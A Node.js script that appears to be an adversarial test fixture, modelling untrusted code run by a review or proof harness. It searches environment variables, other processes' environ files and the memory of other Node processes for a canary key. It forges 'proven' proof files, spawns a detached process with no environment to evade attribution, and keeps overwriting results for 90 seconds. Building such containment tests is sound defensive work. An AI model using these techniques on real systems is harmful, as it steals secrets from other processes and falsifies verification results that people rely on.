// What code under review may try, as one program: it looks for a key everywhere this user may look, writes where it should not, and
// leaves a process behind. What it finds goes to the folder named by the first argument.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';

const [loot, given] = process.argv.slice(2);
// In two parts, so that this text is not itself what is looked for.
const KEY = new RegExp(['canary', '[0-9a-f]{24}'].join('-'));

/** A proof comes after somebody has thought. */
const thought = path.join(repositoryOf(process.cwd()) ?? '/nowhere', '.perfcrew/thoughts.json');
const mode = given === 'test' && fs.existsSync(thought) ? 'proof' : given;

if (mode === 'late') late();
else first();

function first() {
  const found = {
    mode,
    environment: process.env,
    environs: pids().filter((pid) => holds(`/proc/${pid}/environ`)),
    memories: pids().filter((pid) => pid !== process.pid && remembers(pid)),
    forged: [],
  };
  const repository = repositoryOf(process.cwd());
  for (const [file, content] of forgeries(repository)) {
    try {
      fs.mkdirSync(path.dirname(file), { recursive: true });
      fs.writeFileSync(file, content);
      found.forged.push(file);
    } catch {
      // Not there either.
    }
  }
  // No variable and a session of its own: neither mark nor kinship tells whose it is.
  spawn(process.execPath, [process.argv[1], loot, 'late'], {
    env: {},
    detached: true,
    stdio: 'ignore',
  }).unref();
  fs.writeFileSync(path.join(loot, `${mode}-${process.pid}-${Date.now()}.json`), JSON.stringify(found));
}

/** Waits for the next key, and for the moment after the proofs are written. */
function late() {
  const copy = path.join(loot, `late-${process.pid}-${Date.now()}.json`);
  const repository = fs.existsSync(path.join(loot, 'repository'))
    ? fs.readFileSync(path.join(loot, 'repository'), 'utf8')
    : null;
  const end = Date.now() + 90_000;
  const timer = setInterval(() => {
    const environs = pids().filter((pid) => holds(`/proc/${pid}/environ`));
    fs.writeFileSync(copy, JSON.stringify({ mode, at: Date.now(), environs }));
    if (repository !== null) forge(path.join(repository, '.perfcrew/proofs/0123456789abcd.json'), '{}');
    if (Date.now() > end) clearInterval(timer);
  }, 200);
}

function forge(file, content) {
  try {
    fs.writeFileSync(file, content);
  } catch {
    // The folder is not there yet.
  }
}

function* forgeries(repository) {
  if (repository === null) return;
  fs.writeFileSync(path.join(loot, 'repository'), repository);
  const run = path.join(repository, '.perfcrew');
  yield [path.join(run, 'proofs/0123456789abcd.json'), '{"document":"proof","outcome":"proven"}'];
  yield [path.join(run, 'proofs/0123456789abce.json'), `{"outcome":"proven","x":"${'x'.repeat(5_000_000)}"}`];
  if (mode === 'proof') yield [path.join(run, 'thoughts.json'), '{"document":"thoughts","proposals":[]}'];
}

/** From a checkout the way leads by its `.git` file. */
function repositoryOf(directory) {
  for (let at = directory; at !== path.dirname(at); at = path.dirname(at)) {
    const git = path.join(at, '.git');
    if (!fs.existsSync(git)) continue;
    if (fs.statSync(git).isDirectory()) return at;
    return fs
      .readFileSync(git, 'utf8')
      .replace(/^gitdir: /, '')
      .trim()
      .split('/.git/')[0];
  }
  return null;
}

function pids() {
  return fs
    .readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .map(Number);
}

function holds(file) {
  try {
    return KEY.test(fs.readFileSync(file, 'latin1'));
  } catch {
    return false;
  }
}

/** The writable memory of a Node process, as proc(5) shows it to the same user. */
function remembers(pid) {
  try {
    if (!/node|cli/.test(fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8'))) return false;
    const memory = fs.openSync(`/proc/${pid}/mem`, 'r');
    for (const line of fs.readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n')) {
      const region = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
      if (region === null) continue;
      const [from, to] = [Number.parseInt(region[1], 16), Number.parseInt(region[2], 16)];
      if (to - from > 64_000_000) continue;
      const buffer = Buffer.alloc(to - from);
      try {
        fs.readSync(memory, buffer, 0, buffer.length, from);
      } catch {
        continue;
      }
      if (KEY.test(buffer.toString('latin1'))) return true;
    }
    return false;
  } catch {
    return false;
  }
}
